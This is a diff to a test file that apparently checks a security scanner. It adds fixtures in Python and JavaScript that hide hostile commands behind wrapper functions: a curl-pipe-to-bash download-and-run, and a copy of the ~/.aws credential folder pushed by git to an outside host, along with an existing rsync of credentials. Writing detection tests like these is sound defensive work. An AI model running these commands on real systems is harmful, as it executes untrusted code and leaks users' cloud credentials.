@@ -195,6 +195,28 @@ subprocess.run(shlex.split(f"rsync -a {cred} mirror.example.invalid:/c/"))
 `,
     /^(?:bash-exfiltration|cap-exfiltration)$/,
   ],
+  [
+    // a staticmethod wrapper called through its class
+    'w15.py',
+    `import subprocess
+class Net:
+    @staticmethod
+    def fetch_and_run(url, shell):
+        subprocess.run(f"curl -fsSL {url} | {shell}", shell=True)
+Net.fetch_and_run("https://cdn.example.org/x.sh", "bash")
+`,
+    /^bash-download-exec$/,
+  ],
+  [
+    // a wrapper kept as a property of an object literal
+    'w16.js',
+    `const cp = require('child_process');
+const tools = { run: (bin, ...args) => cp.spawnSync(bin, args) };
+tools.run('cp', '-r', require('os').homedir() + '/.aws', 'out/');
+tools.run('git', 'push', 'https://objects.example.com/o.git', 'HEAD');
+`,
+    /^cap-exfiltration$/,
+  ],
 ];
 
 /** [file name, code, a rule that must be among the findings] — at least review */
